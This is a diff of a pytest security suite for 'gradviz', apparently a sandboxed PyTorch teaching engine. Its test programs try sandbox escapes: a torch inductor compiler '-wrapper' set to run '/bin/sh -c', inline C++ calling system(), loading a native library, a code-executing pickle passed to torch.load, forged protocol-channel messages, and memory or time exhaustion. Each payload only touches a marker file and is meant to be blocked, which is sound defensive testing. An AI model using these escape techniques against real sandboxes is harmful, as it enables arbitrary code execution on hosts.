+NETWORK = [
+    ("tcp_connect", "import socket\nsocket.create_connection(('127.0.0.1', @PORT@), timeout=2)", ["PermissionError"]),
+    ("unix_connect", "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('@SOCK@')", ["PermissionError"]),
+    ("udp_send", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', @PORT@))",
+     ["PermissionError"]),
+    ("socketpair", "import socket\nsocket.socketpair()", ["PermissionError"]),
+    ("urllib", "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:@PORT@/', timeout=2)", ["Error"]),
+    ("hub_download", "import torch\ntorch.hub.load_state_dict_from_url('http://127.0.0.1:@PORT@/w.pt')", ["Error"]),
+    ("dns", "import socket\nsocket.getaddrinfo('example.com', 80)", ["Error"]),
+]
 
-    return Limits(max_elements=2_000_000, max_steps=10**9, max_seconds=0.5, max_memory_mb=512,
-                  max_depth=60, max_output_chars=20_000)
+COMPILERS = [
+    ("torch_compile", "import torch\nf = torch.compile(lambda x: x * 2)\nprint(f(torch.ones(3)))", ["Error"]),
+    ("inductor_wrapper", """\
+        import torch
+        import torch._inductor.config as config
+        config.cpp.cxx = ("g++", "-wrapper", "/bin/sh,-c,touch @DIR@/m11")
+        print(torch.compile(lambda x: x.sin() * 2)(torch.ones(3)))
+        """, ["Error"]),
+    ("module_compile_route", """\
+        import torch
+        import torch.nn as nn
+        class Net(nn.Module):
+            compile = 0
+            def __init__(self):
+                super().__init__()
+                self.lin = nn.Linear(2, 2)
+            def forward(self, x):
+                return self.lin(x)
+            def go(self):
+                super().compile(options={"cpp.cxx": ("g++", "-wrapper", "/bin/sh,-c,touch @DIR@/m12")})
+                return self(torch.ones(2))
+        print(Net().go())
+        """, ["Error"]),
+    ("cpp_extension", """\
+        from torch.utils.cpp_extension import load_inline
+        load_inline(name='evil', cpp_sources='int f() { return system("touch @DIR@/m13"); }', functions=['f'])
+        """, ["Error"]),
+    ("load_library", "import torch\ntorch.ops.load_library('@DIR@/evil.so')", ["Error"]),
+    ("ctypes_cdll", "import ctypes\nctypes.CDLL('@DIR@/evil.so')", ["OSError"]),
+]
+
+PICKLES = [
+    ("pickle_loads", "import pickle\nprint('status', pickle.loads(EVIL))", None),
+    # The payload runs as the first object unpickled (its shell refused); torch then finds no magic number.
+    ("torch_load_unsafe", "import io, torch\ntorch.load(io.BytesIO(EVIL), weights_only=False)", ["magic number"]),
+    ("torch_load_default", "import io, torch\ntorch.load(io.BytesIO(EVIL))", ["weights_only"]),
+    ("torch_load_file", "import torch\ntorch.load('@DIR@/evil.pt', weights_only=False)", ["PermissionError"]),
+]
+
+# Each prints "blocked" for what it caught; the run itself must end with a clear error or cleanly.
+CASES = FILES + SECRETS + PROCESSES + NETWORK + COMPILERS + PICKLES
 
 
-CASES = ESCAPES + EXHAUSTION
+def _with_evil(program: str, arena: Arena) -> str:
+    if "EVIL" not in program:
+        return program
+    return f"EVIL = {_evil_pickle(f'touch {arena.dir}/pickle-ran')!r}\n" + textwrap.dedent(program)
 
 
-@pytest.mark.timeout(30)
-@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
-def test_hostile_program_is_refused(case, tmp_path, monkeypatch):
-    name, source, typ, limit, word = case
-    monkeypatch.chdir(tmp_path)
-    before = set(os.listdir(tmp_path))
-    out = run_gradviz(source, SMALL)
-    assert set(os.listdir(tmp_path)) == before  # nothing written
-    if typ is None:
-        assert out.error is None and out.stdout == "False\n"
-        return
-    assert out.error is not None, f"{name} ran without an error"
-    assert out.error.type == typ, out.error
-    assert out.error.line is not None and out.error.line >= 1
-    assert word.lower() in out.error.message.lower(), out.error.message
-    if limit is not None:
-        assert out.error.limit == limit
-        assert f"Limits.{limit}" in out.error.message
-    assert len(out.stdout) <= SMALL.max_output_chars
+@pytest.mark.timeout(120)
+@pytest.mark.parametrize("name, program, words", CASES, ids=[c[0] for c in CASES])
+def test_hostile_program_has_no_effect(engine, arena, name, program, words):
+    result = run_hostile(engine, arena, _with_evil(program, arena))
+    if words is None:
+        # The call reported failure instead of raising: the program went on and printed what it got,
+        # -1 for a refused system call, a non-zero status for system() that could not start a shell.
+        assert result.error is None, result.error
+        value = int(result.stdout.split()[1])
+        assert value == -1 or (value != 0 and result.stdout.startswith("status")), result.stdout
+    else:
+        said(result, *words)
 
 
 def test_there_are_at_least_sixty_hostile_programs():
-    assert len(CASES) >= 60
+    assert len(CASES) + len(CHANNEL) + len(HANGS) + len(MEMORY) >= 60
 
 
-@pytest.mark.timeout(30)
-@pytest.mark.parametrize("source", [
-    "while True:\n    x = 1",
-    "import torch\nwhile True:\n    x = torch.ones(100) * 2",
-    "def f():\n    for i in range(10**9):\n        pass\nf()",
-])
-def test_deadline_stops_slow_loops(source):
-    import time
-
-    t0 = time.monotonic()
-    out = run_gradviz(source, _slow_deadline())
-    assert out.error.type == LIMIT and out.error.limit == "max_seconds"
-    assert "time limit" in out.error.message
-    assert time.monotonic() - t0 < 3.0
-
-
-@pytest.mark.timeout(30)
-def test_memory_limit_stops_growing_lists():
-    from gradviz.core.request import Limits
-
-    limits = Limits(max_elements=10**9, max_steps=10**9, max_seconds=20, max_memory_mb=100,
-                    max_depth=50, max_output_chars=1000)
-    out = run_gradviz("import torch\nkeep = []\nwhile True:\n    keep.append(torch.ones(1_000_000))", limits)
-    assert out.error.type == LIMIT and out.error.limit == "max_memory_mb"
-    del out
-    rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
-    assert rss < 4000  # MB: bounded, far below the machine
+def test_torch_still_works_after_every_refusal(engine, arena):
+    """A program that is refused everything still computes: forward, backward, threads."""
+    result = run_hostile(engine, arena, """\
+        import os, threading, torch
+        try:
+            open('@DIR@/x', 'w')
+        except PermissionError:
+            print('blocked')
+        torch.set_num_threads(2)
+        a = torch.randn(300, 300, requires_grad=True)
+        (a @ a).sum().backward()
+        out = []
+        t = threading.Thread(target=lambda: out.append(float((a * 2).sum())))
+        t.start()
+        t.join()
+        print(a.grad.shape, len(out), len(os.listdir('/proc/self/task')) >= 2)
+        """)
+    assert result.error is None and result.stdout == "blocked\ntorch.Size([300, 300]) 1 True\n"
 
 
-@pytest.mark.timeout(30)
-def test_cancel_stops_the_run():
-    calls = []
-
-    def cancelled():
-        calls.append(1)
-        return len(calls) > 2
-
-    from gradviz.core.request import Limits
-
-    out = run_gradviz("while True:\n    pass", Limits(max_seconds=20), cancelled=cancelled)
-    assert out.error.type == "Cancelled" and out.error.line in (1, 2)
-
-
-@pytest.mark.timeout(30)
-@pytest.mark.parametrize("source", [
-    "x = " + "(" * 5000 + "1" + ")" * 5000,
-    "x = " + "-" * 100000 + "1",
-    "x = 1" + " + 1" * 100000,
-    "x = " + "[" * 3000 + "]" * 3000,
-    "if True:\n" + "".join("    " * i + "if True:\n" for i in range(1, 120)) + "    " * 120 + "pass\n",
-    "x = 'a'\n" * 30000,
-])
-def test_deep_or_huge_source_is_a_clear_error(source):
-    out = run_gradviz(source, SMALL)
-    assert out.error is not None
-    assert out.error.type in ("SyntaxError", LIMIT)
-    assert out.error.message
+# --- the protocol channel ---------------------------------------------------------------------------
+FORGED_RESULT = ('{"type":"result","result":{"shared":{},"data":{"stdout":"forged","graph":{"nodes":[],'
+                 '"edges":[{"src":"a","dst":"b"}],"roots":[]}}},"sent_graphs":[]}')
+CHANNEL = [
+    ("forged_result", f"import os\nos.write(3, {FORGED_RESULT!r}.encode() + b'\\n')\nwhile True:\n    pass",
+     ["could not read"]),
+    ("forged_progress", "import os\nos.write(3, b'{\"type\":\"progress\",\"statement\":{\"line\":99,\"end_line\":99,"
+     "\"ok\":true}}\\n')\nprint('x')", ["could not read"]),
+    ("forged_ready", "import os\nos.write(3, b'{\"type\":\"ready\",\"torch\":\"0\"}\\n')", ["could not read"]),
+    ("garbage", "import os\nos.write(3, b'\\xff\\xfe not json\\n')", ["could not read"]),
+    ("deep_json", "import os\nos.write(3, b'[' * 100000 + b'\\n')", ["could not read"]),
+    ("huge_line", "import os\nfor i in range(200):\n    os.write(3, b'x' * (1 << 20))", ["could not read"]),
+    ("close_channel", "import os\nos.close(3)\nprint('closed')", ["stopped unexpectedly"]),
+    ("dup_over_channel", "import os\nos.dup2(1, 3)\nprint('swapped')", ["stopped unexpectedly"]),
+    ("unknown_type", "import os\nos.write(3, b'{\"type\":\"shell\",\"cmd\":\"id\"}\\n')", ["could not read"]),
+]
 
 
-def test_limit_errors_cannot_be_caught_by_user_code():
-    out = run_gradviz("try:\n    while True:\n        pass\nexcept:\n    print('caught')\n", SMALL)
-    assert out.error.type == LIMIT and out.stdout == ""
-    out = run_gradviz("try:\n    import os\nexcept Exception:\n    print('caught')\n", SMALL)
-    assert out.error.type == NOT_ALLOWED and out.stdout == ""
+@pytest.mark.timeout(120)
+@pytest.mark.parametrize("name, program, words", CHANNEL, ids=[c[0] for c in CHANNEL])
+def test_writing_into_the_engine_channel_is_refused_and_the_next_run_works(engine, arena, name, program, words):
+    result = run_hostile(engine, arena, program, HANG if "while True" in program else SMALL)
+    said(result, *words)
+    assert result.stdout != "forged" and "forged" not in [s.stdout for s in result.statements]
+    assert engine.run(RunRequest("print(1 + 1)")).stdout == "2\n"
 
 
-def test_refused_program_leaves_torch_state_alone():
-    import torch
-
-    before = torch.is_grad_enabled(), torch._tensor_str.PRINT_OPTS.precision
-    out = run_gradviz("import torch\ntorch.set_grad_enabled(False)\ntorch.set_printoptions(precision=2)\n"
-                      "print(torch.tensor([1.23456]))\nimport os\n", SMALL)
-    assert out.stdout == "tensor([1.23])\n" and out.error.type == NOT_ALLOWED
-    assert (torch.is_grad_enabled(), torch._tensor_str.PRINT_OPTS.precision) == before
-
-
-def test_functions_of_a_finished_run_cannot_run_again():
-    out = run_gradviz("def f():\n    return 1\n", SMALL)
-    from gradviz.engine.limits import NotAllowed
-
-    with pytest.raises(NotAllowed):
-        out.globals["f"]()
+def test_output_written_around_the_protocol_neither_corrupts_nor_floods(engine, arena):
+    """fd 1 and 2 go to a drained pipe the client bounds; sys.stdout may be replaced freely."""
+    result = run_hostile(engine, arena, """\
+        import io, os, sys
+        for i in range(100):
+            os.write(1, b'x' * (1 << 20))
+            os.write(2, b'y' * (1 << 20))
+        sys.stdout = io.StringIO()
+        print('into the program's own buffer')
+        sys.stdout = sys.__stdout__
+        print('back')
+        """.replace("program's", "programs"))
+    assert result.error is None and result.stdout == "back\n"
 
 
-@pytest.mark.timeout(30)
-@pytest.mark.parametrize("source", [
-    "import torch\nimport torch.nn.functional as F\nF.conv2d(torch.ones(1, 1, 1, 1), torch.ones(1, 1, 1, 1), padding=10**5)",
-    "import torch\nimport torch.nn.functional as F\nF.conv_transpose2d(torch.ones(1, 1, 100, 100), torch.ones(1, 1, 1, 1), stride=1000)",
-    "import torch\ntorch.conv2d(torch.ones(1, 1, 1, 1), torch.ones(1, 1, 1, 1), padding=10**5)",
-    "import torch\nimport torch.nn as nn\nconv = nn.Conv2d(1, 1, 1, padding=10**5)\nconv(torch.ones(1, 1, 1, 1))",
-    "import torch\nx = torch.ones(1, 10**4)\nx.index_select(0, torch.zeros(10**6, dtype=torch.long))",
-    "print(*[1] * 100, sep='x' * 10**6)",
-])
-def test_growth_through_arguments_is_caught_before_allocation(source):
-    out = run_gradviz(source, SMALL)
-    assert out.error is not None and out.error.type == LIMIT, out.error
-    assert out.error.limit in ("max_elements", "max_output_chars")
+def test_a_lone_surrogate_in_the_output_does_not_lose_the_result(engine, arena):
+    result = run_hostile(engine, arena, "print('a\\ud800b')\nimport torch\nx = torch.ones(2, requires_grad=True)\n"
+                                        "x.sum().backward()\n")
+    assert result.error is None and result.stdout == "a\ufffdb\n"
+    assert result.variable("x").grad.data == [1.0, 1.0]
 
 
-@pytest.mark.timeout(30)
-def test_sleep_stops_at_the_deadline():
-    import time
-
-    t0 = time.monotonic()
-    out = run_gradviz("import time\ntime.sleep(1000)", _slow_deadline())
-    assert out.error.type == LIMIT and out.error.limit == "max_seconds"
-    assert time.monotonic() - t0 < 3
-
-
-@pytest.mark.timeout(30)
-@pytest.mark.parametrize("source", [
-    "from collections import deque\ndeque(range(10**12))",
-    "from collections import Counter\nCounter(range(10**12))",
-    "from collections import OrderedDict\nOrderedDict.fromkeys(range(10**12))",
-])
-def test_collections_are_bounded(source):
-    out = run_gradviz(source, SMALL)
-    assert out.error is not None and out.error.type in (LIMIT, NOT_ALLOWED)
+# --- native calls that never return, and programs that swallow the stop ------------------------------
+HANGS = [
+    ("sleep", "import time\ntime.sleep(1000)"),
+    ("isdisjoint", "set().isdisjoint(range(10**15))"),
+    ("huge_modpow", "pow(10**30000, 10**30000, 10**30000 + 1)"),
+    ("huge_conv2d", "import torch\nimport torch.nn.functional as F\n"
+                    "F.conv2d(torch.ones(1, 8, 1000, 1000), torch.ones(8, 8, 51, 51))"),
+    ("matrix_power", "import torch\ntorch.linalg.matrix_power(torch.eye(1500), 10**9)"),
+    ("event_wait", "import threading\nthreading.Event().wait()"),
+    ("swallow_stop", "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass"),
+    ("ignore_sigint", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
+]
 
 
-@pytest.mark.timeout(30)
-def test_lambdas_called_from_builtins_count_against_the_deadline():
-    import time
-
-    t0 = time.monotonic()
-    out = run_gradviz("xs = list(range(1_000_000))\nfor i in range(100):\n    xs = sorted(xs, key=lambda v: -v)",
-                      _slow_deadline())
-    assert out.error.type == LIMIT and out.error.limit == "max_seconds"
-    assert time.monotonic() - t0 < 5
+@pytest.mark.timeout(120)
+@pytest.mark.parametrize("name, program", HANGS, ids=[c[0] for c in HANGS])
+def test_a_run_past_its_deadline_is_stopped_even_inside_a_native_call(engine, arena, name, program):
+    result = run_hostile(engine, arena, program, HANG)
+    said(result, "time limit")
+    assert result.error.limit == "max_seconds"
 
 
-@pytest.mark.timeout(30)
-def test_memory_limit_stops_before_the_address_space_cap(monkeypatch):
-    """The worker caps the address space; allocations past it can crash torch outright, so the
-    budget stops a growing program while there is still a margin below that cap."""
-    from gradviz.core.request import Limits
-    from gradviz.engine import limits as budget_limits
+def test_cancel_stops_a_program_that_ignores_it(engine, arena):
+    import threading
 
-    address, _ = budget_limits._memory_bytes()
-    cap = address + 64 * 1024 * 1024
-    monkeypatch.setattr(budget_limits, "_address_cap", lambda: cap - budget_limits.ADDRESS_MARGIN)
-    limits = Limits(max_elements=10**9, max_steps=10**9, max_seconds=20, max_memory_mb=100_000,
-                    max_depth=50, max_output_chars=1000)
-    out = run_gradviz("import torch\nkeep = []\nwhile True:\n    keep.append(torch.ones(1_000_000))", limits)
-    assert out.error.type == LIMIT and out.error.limit == "max_memory_mb"
-    assert "memory limit" in out.error.message
+    def cancel_soon(info):
+        threading.Timer(0.5, engine.cancel).start()
+
+    started = time.monotonic()
+    result = engine.run(RunRequest(arena.fill(HANGS[-1][1]), limits=Limits(max_seconds=60)),
+                        on_progress=cancel_soon)
+    assert result.error.type == "Cancelled" and time.monotonic() - started < 10
+
+
+# --- memory and size ----------------------------------------------------------------------------
+MEMORY = [
+    ("huge_string", "s = 'a' * 10**10"),
+    ("huge_tensor", "import torch\nx = torch.zeros(10**6, 10**6)"),
+    ("huge_bytearray", "b = bytearray(10**11)"),
+    ("numpy_huge", "import numpy as np\na = np.ones((10**5, 10**5))"),
+    ("growing_list", "import torch\nkeep = []\nwhile True:\n    keep.append(torch.ones(10**7))"),
+    ("growing_graph", "import torch\nx = torch.ones(10**5, requires_grad=True)\ny = x\nwhile True:\n    y = (y * 1.0001).sin()"),
+    ("string_doubling", "s = 'ab'\nwhile True:\n    s = s + s"),
+]
+
+
+@pytest.mark.timeout(120)
+@pytest.mark.parametrize("name, program", MEMORY, ids=[c[0] for c in MEMORY])
+def test_memory_is_bounded_with_a_clear_message(engine, arena, name, program):
+    result = run_hostile(engine, arena, program, Limits(max_seconds=30, max_memory_mb=400))
+    said(result, "memory")
+    assert engine.run(RunRequest("print(2 * 21)")).stdout == "42\n"
+
+
+def test_output_floods_stop_at_the_output_limit(engine, arena):
+    result = run_hostile(engine, arena, "while True:\n    print('x' * 1000)")
+    said(result, "output limit")
+    assert len(result.stdout) <= SMALL.max_output_chars
+
+
+def test_a_billion_character_string_printed_hits_a_limit(engine, arena):
+    result = run_hostile(engine, arena, "print('a' * 10**9)", Limits(max_seconds=30, max_memory_mb=3000))
+    said(result, "limit")
+
+
+@pytest.mark.timeout(300)
+def test_the_result_is_bounded_whatever_the_program(engine, arena):
+    """5,000 parameters of 10,000 elements made a 559 MB result and a 3.65 GB app once: here 5,000
+    variables whose values would each travel whole (10,000 elements) are summarised to fit."""
+    import resource
+
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    limits = Limits(max_seconds=120, max_memory_mb=4096, max_result_mb=4)
+    result = run_hostile(engine, arena, """\
+        import torch
+        for i in range(5_000):
+            globals()[f"p{i}"] = torch.randn(10_000, requires_grad=True)
+        loss = sum((globals()[f"p{i}"] ** 2).sum() for i in range(5_000))
+        loss.backward()
+        print(5_000)
+        """, limits)
+    assert result.error is None and result.stdout == "5000\n"
+    assert len(result.to_json()) <= 6 * 1024 * 1024  # the JSON of what came, shared values written out again
+    assert any(note.startswith("The result was over the result limit (4 MB)") for note in result.notes)
+    p0, p4999 = result.variable("p0"), result.variable("p4999")
+    assert p0.value.stats is not None and p4999.value.stats is not None and p4999.grad.stats is not None
+    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
+    assert grown_mb < 1024, f"this (the app's) process grew by {grown_mb:.0f} MB"
+
+
+# --- crashes inside torch ------------------------------------------------------------------------
+def test_a_crash_in_native_code_is_a_clear_message_and_the_next_run_works(engine, arena):
+    result = run_hostile(engine, arena, "import ctypes\nctypes.string_at(1)")
+    said(result, "stopped unexpectedly", "SIGSEGV")
+    assert engine.run(RunRequest("print('fine')")).stdout == "fine\n"
+
+
+def test_calling_grad_fn_nodes_and_optimizer_state_tricks_stay_inside(engine, arena):
+    result = run_hostile(engine, arena, """\
+        import torch
+        x = torch.ones(3, requires_grad=True)
+        y = (x * x).sum()
+        print(list(map(lambda node: node(torch.ones(())), [y.grad_fn])))
+        p = torch.nn.Parameter(torch.ones(1000))
+        opt = torch.optim.Adam([p], fused=True)
+        state = {"state": {0: {"step": torch.tensor(1.0), "exp_avg": torch.ones(1), "exp_avg_sq": torch.ones(1)}},
+                 "param_groups": opt.state_dict()["param_groups"]}
+        opt.load_state_dict(state)
+        p.grad = torch.ones(1000)
+        opt.step()
+        """)
+    # Whatever torch does with the short state (an error, or a crash of the engine), it stays there.
+    assert result.error is not None
+    assert engine.run(RunRequest("print('fine')")).stdout == "fine\n"
+
+
+# --- nothing of one run reaches the next --------------------------------------------------------------
+def test_the_next_lesson_cannot_read_the_previous_ones_memory_or_state(engine, arena):
+    marker = "PREVIOUS-LESSON-" + os.urandom(6).hex()
+    first = run_hostile(engine, arena, f"""\
+        import torch, builtins
+        text = {marker!r} * 100000
+        t = torch.frombuffer(bytearray(text.encode()), dtype=torch.uint8).clone()
+        builtins.LEFT_BEHIND = text
+        torch.randn = lambda *a, **k: torch.zeros(*a)
+        del t, text
+        """)
+    assert first.error is None
+    second = run_hostile(engine, arena, f"""\
+        import torch, builtins
+        junk = torch.empty(50_000_000, dtype=torch.uint8)
+        print(bytes(junk.numpy()).find({marker!r}.encode()), hasattr(builtins, 'LEFT_BEHIND'))
+        torch.manual_seed(0)
+        print(torch.randn(2).abs().sum() > 0)
+        """)
+    assert second.error is None and second.stdout == "-1 False\ntensor(True)\n"
+
+
+def test_the_engine_sees_none_of_the_users_environment(engine, arena):
+    result = run_hostile(engine, arena, """\
+        import os
+        print(sorted(os.environ))
+        print(open('/proc/self/environ', 'rb').read().count(b'GRADVIZ_TEST_SECRET'))
+        """)
+    assert result.error is None
+    names, count = result.stdout.splitlines()
+    assert "GRADVIZ_TEST_SECRET" not in names and "HOME" not in names and "USER" not in names
+    assert count == "0"
+
+
+# --- malformed lesson files ---------------------------------------------------------------------------
+MALFORMED = [
+    ("binary.gradviz", os.urandom(2000)),
+    ("nested.gradviz", b"[" * 200_000),
+    ("wrong_types.gradviz", b'{"format": "gradviz-session", "version": 2, "program": 42}'),
+    ("duplicate.gradviz", b'{"format": "gradviz-session", "format": "x", "program": ""}'),
+    ("nan.gradviz", b'{"format": "gradviz-session", "version": 2, "program": "", "seed": NaN}'),
+    ("nul.py", b"import torch\x00\nprint(1)\n"),
+    ("latin1.py", "x = 'caf\xe9'\n".encode("latin-1")),
+]
+
+
+@pytest.mark.timeout(120)
+@pytest.mark.parametrize("name, data", MALFORMED, ids=[m[0] for m in MALFORMED])
+def test_malformed_lesson_files_are_refused_in_one_line(tmp_path, name, data):
+    path = tmp_path / name
+    path.write_bytes(data)
+    done = subprocess.run([sys.executable, "-m", "gradviz", "inspect", str(path)], capture_output=True, text=True,
+                          cwd=ROOT, timeout=100, env={**os.environ, "PYTHONPATH": str(ROOT)})
+    assert done.returncode == 2, done
+    assert done.stdout == "" and done.stderr.startswith("gradviz inspect: ") and done.stderr.count("\n") == 1
+    assert path.read_bytes() == data
+
+
+# --- no worker outlives the app or the command ----------------------------------------------------------
+def _descendants(pid: int) -> set[int]:
+    children: dict[int, list[int]] = {}
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            try:
+                stat = Path(f"/proc/{entry}/stat").read_text()
+            except OSError:
+                continue
+            ppid = int(stat[stat.rindex(")") + 2:].split()[1])
+            children.setdefault(ppid, []).append(int(entry))
+    found, stack = set(), [pid]
+    while stack:
+        for child in children.get(stack.pop(), []):
+            if child not in found:
+                found.add(child)
+                stack.append(child)
+    return found
+
+
+def _alive(pids: set[int]) -> set[int]:
+    alive = set()
+    for pid in pids:
+        try:
+            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
+        except OSError:
+            continue
+        if state != "Z":
+            alive.add(pid)
+    return alive
+
+
+APP_LIKE = """
+import sys, threading, time
+from gradviz.core.request import Limits, RunRequest
+from gradviz.engine.client import EngineClient
+client = EngineClient()
+threading.Thread(target=lambda: client.run(RunRequest("while True:\\n    pass", limits=Limits(max_seconds=600)))).start()
+time.sleep(600)
+"""
+
+
+@pytest.mark.timeout(180)
+@pytest.mark.parametrize("kind", ["app", "cli"])
+def test_sigkill_of_the_app_or_the_command_leaves_no_worker_within_two_seconds(tmp_path, kind):
+    if kind == "app":
+        command = [sys.executable, "-c", APP_LIKE]
+    else:
+        script = tmp_path / "forever.py"
+        script.write_text("while True:\n    pass\n")
+        command = [sys.executable, "-m", "gradviz", "inspect", str(script)]
+    proc = subprocess.Popen(command, cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)},
+                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        deadline = time.monotonic() + 120
+        want = 2 if kind == "app" else 1  # the zygote and the run's worker; the command's own worker
+        while len(_alive(_descendants(proc.pid))) < want and time.monotonic() < deadline:
+            time.sleep(0.2)
+        time.sleep(1.0)  # the program is running in a worker now
+        engine_pids = _alive(_descendants(proc.pid))
+        assert len(engine_pids) >= want, engine_pids
+        proc.kill()
+        proc.wait()
+        gone_by = time.monotonic() + 2.0
+        while _alive(engine_pids) and time.monotonic() < gone_by:
+            time.sleep(0.05)
+        assert _alive(engine_pids) == set()
+    finally:
+        if proc.poll() is None:
+            proc.kill()
